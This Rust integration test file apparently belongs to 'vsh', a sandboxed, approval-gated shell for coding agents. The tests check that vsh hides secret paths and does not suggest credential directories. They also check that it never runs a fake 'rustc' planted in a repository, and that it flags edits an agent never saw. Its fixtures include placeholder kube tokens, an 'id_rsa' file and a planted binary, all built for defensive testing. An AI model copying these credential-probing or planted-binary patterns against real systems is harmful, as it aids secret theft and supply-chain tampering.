    assert!(stderr.contains("cannot start in secrets") && stderr.contains("**/secrets/**"), "{stderr}");
    assert!(!stderr.contains("mount"), "not a mount failure: {stderr}");
    assert!(!String::from_utf8_lossy(&refused.stdout).contains("token"));
    // An ordinary directory is where the command starts.
    let listed = run_in("src");
    assert_eq!(listed.status.code(), Some(0), "{}", String::from_utf8_lossy(&listed.stderr));
    assert!(String::from_utf8_lossy(&listed.stdout).contains("a.txt"));
}

/// Run `vsh args` with `input` (of any length, written from a thread) on
/// its stdin; the output once it exits.
fn vsh_fed(args: &[&str], input: impl std::io::Read + Send + 'static) -> Output {
    vsh_fed_in(None, args, input)
}

/// [`vsh_fed`], in `cwd` when one is given.
fn vsh_fed_in(cwd: Option<&Path>, args: &[&str], input: impl std::io::Read + Send + 'static) -> Output {
    let mut command = Command::new(env!("CARGO_BIN_EXE_vsh"));
    if let Some(cwd) = cwd {
        command.current_dir(cwd);
    }
    let mut child = command
        .args(args)
        .env_clear()
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    let feeder = std::thread::spawn(move || {
        let mut input = input;
        // Stops with a broken pipe once vsh has had enough.
        let _ = std::io::copy(&mut input, &mut stdin);
    });
    let output = child.wait_with_output().unwrap();
    feeder.join().unwrap();
    output
}

#[test]
fn an_endless_program_or_policy_file_is_refused_after_its_limit_not_read_into_memory() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().to_str().unwrap();
    // 64 MiB of input, far past the 1 MiB a program may be: refused with its
    // reason, having read only the limit and a byte (the rest never written).
    let endless = std::io::Read::take(std::io::repeat(b'#'), 64 << 20);
    let output = vsh_fed(&["run", "--workspace", root, "-"], endless);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains("standard input is longer than 1 MiB, the most a program may be"), "{stderr}");
    let endless = std::io::Read::take(std::io::repeat(b'#'), 64 << 20);
    let output = vsh_fed(&["init", "--workspace", root, "--policy", "-"], endless);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains("longer than 1 MiB, the most a policy file may be"), "{stderr}");
    assert!(!dir.path().join(".vsh/data/policy.toml").exists(), "nothing was recorded");
    // A FIFO is refused before it is opened, as `policy check` refuses it
    // (sec88 L3: init waited for a writer, then recorded what it wrote).
    let fifo = dir.path().join("policy.fifo");
    assert!(Command::new("mkfifo").arg(&fifo).status().unwrap().success());
    let output = vsh(&["init", "--workspace", root, "--policy", fifo.to_str().unwrap()], None);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains("is not a regular file"), "{stderr}");
    assert!(!dir.path().join(".vsh/data/policy.toml").exists(), "nothing was recorded");
}

#[test]
fn a_timeout_too_long_to_represent_means_no_limit_and_never_a_panic() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().to_str().unwrap();
    for timeout in ["18446744073709551615s", "300000000000y"] {
        let output =
            vsh(&["run", "--workspace", root, "--timeout", timeout, "-"], Some("vsh_write('/workspace/a.txt', 'a')"));
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert_eq!(output.status.code(), Some(0), "{timeout}: {stderr}");
        assert!(String::from_utf8_lossy(&output.stdout).contains("state        auto-approved"), "{timeout}");
    }
}

/// The pids of `parent`'s children, from `/proc`.
fn children_of(parent: u32) -> Vec<u32> {
    let mut children = Vec::new();
    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
        let Ok(pid) = entry.file_name().to_string_lossy().parse::<u32>() else { continue };
        let Ok(stat) = std::fs::read_to_string(entry.path().join("stat")) else { continue };
        // `pid (comm) state ppid ...`: the comm may hold spaces and parentheses.
        let after = stat.rsplit_once(')').map_or("", |(_, rest)| rest);
        if after.split_whitespace().nth(1).and_then(|ppid| ppid.parse::<u32>().ok()) == Some(parent) {
            children.push(pid);
        }
    }
    children
}

/// A vsh killed outright (SIGKILL, the OOM killer) takes its Monty worker
/// with it, at once, even inside one long native call of the program.
#[test]
fn a_monty_worker_dies_with_a_vsh_killed_outright() {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().to_str().unwrap();
    let mut child = Command::new(env!("CARGO_BIN_EXE_vsh"))
        .args(["run", "--workspace", ws, "--timeout", "60s", "-"])
        .env_clear()
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    {
        use std::io::Write as _;
        let mut stdin = child.stdin.take().unwrap();
        stdin.write_all(b"while True:\n    pass\n").unwrap();
    }
    let started = std::time::Instant::now();
    let workers = loop {
        let workers = children_of(child.id());
        if !workers.is_empty() {
            break workers;
        }
        assert!(started.elapsed() < std::time::Duration::from_secs(30), "no worker was started");
        std::thread::sleep(std::time::Duration::from_millis(20));
    };
    // Let it get into the program.
    std::thread::sleep(std::time::Duration::from_millis(300));
    child.kill().unwrap();
    child.wait().unwrap();
    let killed = std::time::Instant::now();
    for worker in workers {
        let alive = || {
            std::fs::read_to_string(format!("/proc/{worker}/stat"))
                .is_ok_and(|stat| !stat.rsplit_once(')').is_some_and(|(_, rest)| rest.trim_start().starts_with('Z')))
        };
        while alive() {
            assert!(killed.elapsed() < std::time::Duration::from_secs(5), "worker {worker} outlived vsh");
            std::thread::sleep(std::time::Duration::from_millis(20));
        }
    }
}

/// A program found only on the user's own PATH, in an installation outside
/// the workspace whose interpreter lives in another (a virtualenv's
/// `pytest` and its pyenv `python3`): the error's next step is a command
/// line that runs it, and does.
#[test]
fn a_program_installed_outside_the_workspace_gets_a_next_step_that_runs_it() {
    use std::os::unix::fs::PermissionsExt as _;
    if !fuse_available() {
        return;
    }
    let outside = tempfile::tempdir().unwrap();
    std::fs::set_permissions(outside.path(), std::fs::Permissions::from_mode(0o700)).unwrap();
    let (inst, venv) = (outside.path().join("inst"), outside.path().join("venv"));
    std::fs::create_dir_all(inst.join("bin")).unwrap();
    std::fs::create_dir_all(venv.join("bin")).unwrap();
    std::fs::copy("/bin/sh", inst.join("bin/sh")).unwrap();
    std::os::unix::fs::symlink(inst.join("bin/sh"), venv.join("bin/python3")).unwrap();
    let greet = venv.join("bin/greet");
    std::fs::write(&greet, format!("#!{}\necho greeted\n", venv.join("bin/python3").display())).unwrap();
    std::fs::set_permissions(&greet, std::fs::Permissions::from_mode(0o755)).unwrap();
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "a.txt", "a\n");
    let run = |args: &[String]| {
        Command::new(env!("CARGO_BIN_EXE_vsh"))
            .args(args)
            .env_clear()
            .env("PATH", format!("{}:/usr/bin:/bin", venv.join("bin").display()))
            .current_dir(dir.path())
            .stdin(std::process::Stdio::null())
            .output()
            .unwrap()
    };
    let failed = run(&["exec".to_owned(), "--".to_owned(), "greet".to_owned()]);
    let stderr = String::from_utf8_lossy(&failed.stderr);
    assert_eq!(failed.status.code(), Some(1), "{stderr}");
    // On no directory of the command's PATH, and said so alone (ux81 L11:
    // also "lies outside what commands can read").
    assert!(stderr.contains("`greet` is not on the command's PATH"), "{stderr}");
    assert!(!stderr.contains("lies outside what commands can read"), "{stderr}");
    let next = stderr.lines().find_map(|line| line.strip_prefix("vsh: next: `")).unwrap_or_else(|| panic!("{stderr}"));
    let next = shlex::split(next.trim_end_matches('`')).unwrap();
    let tools: Vec<&str> = next.windows(2).filter(|pair| pair[0] == "--tool").map(|pair| pair[1].as_str()).collect();
    assert_eq!(tools.len(), 2, "{next:?}");
    assert!(tools[0].ends_with("/venv") && tools[1].ends_with("/inst"), "{next:?}");
    let ran = run(&next[1..]);
    assert_eq!(ran.status.code(), Some(0), "{}", String::from_utf8_lossy(&ran.stderr));
    assert!(String::from_utf8_lossy(&ran.stdout).contains("| greeted"), "{}", String::from_utf8_lossy(&ran.stdout));
    // Named by its path, the script's own installation is given too, not
    // only its interpreter's (ux49 M2: a venv's pytest outside the workspace).
    let failed = run(&["exec".to_owned(), "--".to_owned(), greet.display().to_string()]);
    assert!(String::from_utf8_lossy(&failed.stderr).contains("lies outside what commands can read"), "{failed:?}");
    let next = next_step_of(&failed);
    let tools: Vec<&str> = next.windows(2).filter(|pair| pair[0] == "--tool").map(|pair| pair[1].as_str()).collect();
    assert!(tools.len() == 2 && tools[0].ends_with("/venv") && tools[1].ends_with("/inst"), "{next:?}");
    let ran = run(&next[1..]);
    assert!(String::from_utf8_lossy(&ran.stdout).contains("| greeted"), "{}", String::from_utf8_lossy(&ran.stderr));
    // A link into another installation (a venv's `python`): both, since
    // the link's own (the venv's `pyvenv.cfg`) decides what it runs with.
    let python = venv.join("bin/python3").display().to_string();
    let next = next_step_of(&run(&["exec".to_owned(), "--".to_owned(), python, "-c".to_owned(), "echo".to_owned()]));
    let tools: Vec<&str> = next.windows(2).filter(|pair| pair[0] == "--tool").map(|pair| pair[1].as_str()).collect();
    assert!(tools.len() == 2 && tools[0].ends_with("/venv") && tools[1].ends_with("/inst"), "{next:?}");
    // Never a directory of credentials, whatever a script's `#!` names
    // (sec50 F3): a data file or a directory is no interpreter, and an
    // installation holding a secret (an `id_rsa` beside its `bin/`) is not
    // suggested.
    let (kube, keys) = (outside.path().join("home/.kube"), outside.path().join("keys"));
    std::fs::create_dir_all(&kube).unwrap();
    std::fs::write(kube.join("config"), "token: x\n").unwrap();
    std::fs::create_dir_all(keys.join("bin")).unwrap();
    std::fs::copy("/bin/sh", keys.join("bin/sh")).unwrap();
    std::fs::write(keys.join("id_rsa"), "KEY\n").unwrap();
    for (name, interpreter) in
        [("kube.sh", kube.join("config")), ("conf.sh", kube.clone()), ("keys.sh", keys.join("bin/sh"))]
    {
        let script = dir.path().join(name);
        std::fs::write(&script, format!("#!{}\necho hi\n", interpreter.display())).unwrap();
        std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
        let failed = run(&["exec".to_owned(), "--".to_owned(), format!("./{name}")]);
        let stderr = String::from_utf8_lossy(&failed.stderr);
        assert!(!stderr.contains("--tool"), "{name}: {stderr}");
    }
    // A rustup proxy (`~/.cargo/bin/cargo`, the same file as `rustup`) is
    // given as the toolchain it would run, never `~/.cargo` (ux49 M1), read
    // from rustup's settings: nothing beside the proxy runs, since a
    // repository can ship a fake one (sec50 F2: its `rustc` ran as root).
    let (home, rustup_home) = (outside.path().join("cargo-home/bin"), outside.path().join("rustup-home"));
    let toolchain = rustup_home.join("toolchains/stable-x86_64-test");
    std::fs::create_dir_all(&home).unwrap();
    std::fs::create_dir_all(toolchain.join("bin")).unwrap();
    std::fs::write(rustup_home.join("settings.toml"), "version = \"12\"\ndefault_toolchain = \"stable\"\n").unwrap();
    let script = |path: &Path, text: &str| {
        std::fs::write(path, text).unwrap();
        std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
    };
    script(&home.join("rustup"), "#!/bin/sh\necho proxied\n");
    std::fs::hard_link(home.join("rustup"), home.join("cargo")).unwrap();
    let ran_beside = outside.path().join("ran-beside");
    script(&home.join("rustc"), &format!("#!/bin/sh\ntouch {}\n", ran_beside.display()));
    script(&toolchain.join("bin/rustc"), "#!/bin/sh\n");
    script(&toolchain.join("bin/cargo"), "#!/bin/sh\necho built by the toolchain\n");
    let run = |args: &[String]| {
        Command::new(env!("CARGO_BIN_EXE_vsh"))
            .args(args)
            .env_clear()
            .env("PATH", format!("{}:/usr/bin:/bin", home.display()))
            .env("RUSTUP_HOME", &rustup_home)
            .current_dir(dir.path())
            .stdin(std::process::Stdio::null())
            .output()
            .unwrap()
    };
    let next = next_step_of(&run(&["exec".to_owned(), "--".to_owned(), "cargo".to_owned()]));
    assert!(!ran_beside.exists(), "vsh ran a program beside the proxy");
    let tools: Vec<&str> = next.windows(2).filter(|pair| pair[0] == "--tool").map(|pair| pair[1].as_str()).collect();
    assert_eq!(tools, [toolchain.to_str().unwrap()], "{next:?}");
    assert!(next.contains(&format!("PATH={}/bin:/usr/local/bin:/usr/bin:/bin", toolchain.display())), "{next:?}");
    let ran = run(&next[1..]);
    assert!(String::from_utf8_lossy(&ran.stdout).contains("| built by the toolchain"), "{ran:?}");
}

/// The command line of a failed run's `next:` step, split as a shell would.
fn next_step_of(failed: &Output) -> Vec<String> {
    let stderr = String::from_utf8_lossy(&failed.stderr);
    let next = stderr.lines().find_map(|line| line.strip_prefix("vsh: next: `")).unwrap_or_else(|| panic!("{stderr}"));
    shlex::split(next.trim_end_matches('`')).unwrap()
}

/// A revert refused for a path the policy in force hides (work made under
/// an operator's per-run policy that let it write a secret) names the
/// nearest directory it does not hide, never the hidden name (sec73 F1).
#[test]
fn a_refused_revert_never_names_a_path_the_policy_hides() {
    if !fuse_available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().join("ws");
    write(&ws, "a.txt", "a\n");
    let ws_arg = ws.to_str().unwrap();
    let open = dir.path().join("open.toml");
    std::fs::write(&open, "version = 1\n[defaults]\nsecrets = false\n").unwrap();
    let made = vsh(
        &[
            "exec",
            "--workspace",
            ws_arg,
            "--policy",
            open.to_str().unwrap(),
            "--",
            "sh",
            "-c",
            "mkdir -p keys; echo k > keys/.env.prod-payments-key; echo k > .env.prod-payments-key",
        ],
        None,
    );
    let id = id_of(&made);
    let approved = vsh(&["approve", "--commit", "--workspace", ws_arg, &id], None);
    assert_eq!(approved.status.code(), Some(0), "{approved:?}");
    assert!(ws.join(".env.prod-payments-key").exists());
    for format in [None, Some("--json")] {
        let mut args = vec!["revert", "--workspace", ws_arg, &id];
        args.extend(format);
        let refused = vsh(&args, None);
        assert_ne!(refused.status.code(), Some(0), "{refused:?}");
        let said = format!("{}{}", String::from_utf8_lossy(&refused.stdout), String::from_utf8_lossy(&refused.stderr));
        assert!(said.contains("cannot revert"), "{said}");
        assert!(!said.contains(".env.prod"), "a hidden name is never said: {said}");
    }
    // One whose bytes were never kept (over 1 MiB, removed unread) alike.
    write(&ws, "big/.env.huge", &"x".repeat(2 << 20));
    let removed =
        vsh(&["exec", "--workspace", ws_arg, "--policy", open.to_str().unwrap(), "--", "rm", "big/.env.huge"], None);
    let id = id_of(&removed);
    assert_eq!(vsh(&["approve", "--commit", "--workspace", ws_arg, &id], None).status.code(), Some(0));
    let refused = vsh(&["revert", "--workspace", ws_arg, &id], None);
    let said = String::from_utf8_lossy(&refused.stderr);
    assert!(said.contains("cannot revert") && said.contains("at big:"), "{said}");
    assert!(!said.contains(".env.huge"), "a hidden name is never said: {said}");
}

/// ux80 M5, ux81 M5: after a hand edit, every formatter or `sed -i` run
/// over the file waited for a reviewer, told a change would be lost, though
/// it kept the edit. A rewrite that keeps, in place, what changed since vsh
/// last saw the file is no unseen change; one written from what vsh saw
/// (an agent's stale copy, by a command) still waits.
#[test]
fn a_command_that_keeps_a_hand_edit_in_place_does_not_wait() {
    if !fuse_available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().to_str().unwrap();
    write(dir.path(), "app.py", "import os\n\ndef add(a, b):\n    return a + b\n");
    let grow = "from pathlib import Path\np = Path('app.py')\np.write_text(p.read_text() + '\\ndef mul(a, b):\\n    return a * b\\n')";
    assert_eq!(vsh(&["run", "--mode", "auto", "--workspace", ws, "-"], Some(grow)).status.code(), Some(0));
    let seen = std::fs::read_to_string(dir.path().join("app.py")).unwrap();
    // By hand, since.
    std::fs::write(dir.path().join("app.py"), format!("{seen}def div(a,b):\n    return a/b\n")).unwrap();
    let (code, receipt) = exec_sh_json(ws, "sed -i 's/^import os$/import sys/' app.py");
    assert_eq!(code, Some(0), "{receipt}");
    assert_eq!(receipt["state"], "auto-approved", "{receipt}");
    assert!(!receipt.to_string().contains("unseen-change"), "{receipt}");
    // Last seen by a run's read, not a commit: judged the same (ux82 M4).
    write(dir.path(), "lib.py", "import re\n\ndef one():\n    return 1\n");
    let read = "from pathlib import Path\nPath('lib.py').read_text()";
    assert_eq!(vsh(&["run", "--workspace", ws, "-"], Some(read)).status.code(), Some(0));
    std::fs::write(dir.path().join("lib.py"), "import re\n\ndef one():\n    return 1\n# by hand\n").unwrap();
    let (_, receipt) = exec_sh_json(ws, "sed -i 's/^import re$/import sys/' lib.py");
    assert_eq!(receipt["state"], "auto-approved", "{receipt}");
    // Written from what vsh saw, with a change of its own: the edit would be lost.
    let stale = seen.replace("import os", "import sys").replace('\'', "'\\''");
    let (_, receipt) = exec_sh_json(ws, &format!("printf '%s' '{stale}' > app.py"));
    assert_eq!(receipt["state"], "pending-approval", "{receipt}");
    assert!(receipt.to_string().contains("unseen-change"), "{receipt}");
    // Under -q the warning comes before the line that points to it (ux84).
    let quiet =
        vsh(&["exec", "-q", "--workspace", ws, "--", "sh", "-c", &format!("printf '%s' '{stale}' > app.py")], None);
    let lines = String::from_utf8_lossy(&quiet.stderr).into_owned();
    let warned = lines.find("warning: unseen-change").unwrap_or(usize::MAX);
    let pointed = lines.find("is pending-approval").unwrap_or(0);
    assert!(warned < pointed, "{lines}");
    // A command may have read it: not "replaced unread", but what to check (ux83 M3).
    let said = receipt["warnings"].to_string();
    assert!(said.contains("rewritten; by a command or a Bash script, which may have read it"), "{said}");
    assert!(said.contains("check its hunks before approving") && !said.contains("replaced unread"), "{said}");
}

/// `$VSH_SESSION` names the session of an agent that drives the command
/// line: a change made since through vsh by someone else is one that
/// session never saw (`unseen-change`), as it is for a `vsh serve`
/// connection.
#[test]
fn vsh_session_gives_an_agent_on_the_command_line_a_view_of_its_own() {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "a.txt", "one\ntwo\n");
    let ws = dir.path().to_str().unwrap();
    let as_agent = |args: &[&str], program: &str| {
        use std::io::Write;
        let mut child = Command::new(env!("CARGO_BIN_EXE_vsh"))
            .args(args)
            .env_clear()
            .env("VSH_SESSION", "agent-7")
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        child.stdin.take().unwrap().write_all(program.as_bytes()).unwrap();
        child.wait_with_output().unwrap()
    };
    let read = as_agent(&["run", "--workspace", ws, "-"], "from pathlib import Path\nPath('a.txt').read_text()");
    assert_eq!(read.status.code(), Some(0), "{read:?}");
    let edit = "from pathlib import Path\np = Path('a.txt')\np.write_text(p.read_text() + 'mine\\n')";
    assert_eq!(vsh(&["run", "--workspace", ws, "--mode", "auto", "-"], Some(edit)).status.code(), Some(0));
    let blind = "from pathlib import Path\nPath('a.txt').write_text('one\\ntwo\\nagent\\n')";
    let judged = as_agent(&["run", "--workspace", ws, "--mode", "auto", "-"], blind);
    let said = String::from_utf8_lossy(&judged.stdout);
    assert_eq!(judged.status.code(), Some(4), "{said}");
    assert!(
        said.contains("why        unseen-change: ") && said.contains("a.txt (changed since a run read it"),
        "{said}"
    );
    // The next step says what approving does (ux70 F6); a script is sent to the review.
    assert!(said.contains("approving commits the diff as shown, losing any change named above it does not"), "{said}");
    let judged = as_agent(&["run", "--workspace", ws, "--json", "-"], blind);
    let document: serde_json::Value = serde_json::from_slice(&judged.stdout).unwrap();
    let id = document["transaction"].as_str().unwrap();
    assert_eq!(document["next"], format!("vsh show {}", &id[..12]), "{document}");
    // Approving it says once more what its commit drops (ux71 M2).
    let approved = vsh(&["approve", "--workspace", ws, id], None);
    assert_eq!(approved.status.code(), Some(0), "{approved:?}");
    let said = String::from_utf8_lossy(&approved.stderr);
    assert!(said.contains("warning: its commit loses any change made since") && said.contains("a.txt"), "{said}");
    assert_eq!(std::fs::read_to_string(dir.path().join("a.txt")).unwrap(), "one\ntwo\nmine\n");
}
